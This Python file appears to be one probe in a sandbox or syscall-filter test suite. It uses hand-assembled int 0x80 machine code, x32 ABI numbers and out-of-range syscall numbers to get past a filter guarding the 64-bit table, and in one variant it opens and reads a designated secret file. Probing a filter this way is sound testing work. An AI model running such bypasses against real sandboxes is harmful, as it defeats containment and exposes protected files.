"""Calls the kernel by other tables of numbers than the one that is filtered: 32-bit, x32, and numbers to come.

Ends: killed, ok, error
Variants: int80, int80_open, x32, beyond
"""

from attack import LIBC, TARGETS, VARIANT, breach, ctypes, machine_code, mmap, os, platform, say

intel = platform.machine() == "x86_64"
if VARIANT == "int80" and intel:
    # getpid is 20 in the table of 32 bits, and writev in that of 64.
    result = machine_code(b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3")()
    say(str(result))
    if result == os.getpid() or result > 0:
        breach("getpid by int 0x80")
elif VARIANT == "int80_open" and intel:
    LIBC.mmap.restype = ctypes.c_void_p
    low = LIBC.mmap(None, 4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)
    ctypes.memmove(low, TARGETS["secret_file"].encode() + b"\0", len(TARGETS["secret_file"]) + 1)
    code = (
        b"\x53\xbb"
        + low.to_bytes(4, "little")
        + b"\x31\xc9\x31\xd2\xb8\x05\x00\x00\x00\xcd\x80\x5b\x48\x63\xc0\xc3"
    )
    descriptor = machine_code(code)()
    say(str(descriptor))
    if 0 <= descriptor < 1 << 20:
        breach("open by int 0x80")
        say(repr(os.read(descriptor, 100)))
elif VARIANT == "x32":
    for number in (39, 0, 257, 520, 539):
        result = LIBC.syscall(ctypes.c_long(0x40000000 | number), 0, 0, 0)
        if result >= 0:
            breach(f"x32 {number} gave {result}")
else:
    for number in [*range(463, 600), 1 << 16, 1 << 31, (1 << 32) | 57, -1]:
        result = LIBC.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0, 0)
        if result >= 0:
            breach(f"call {number} gave {result}")
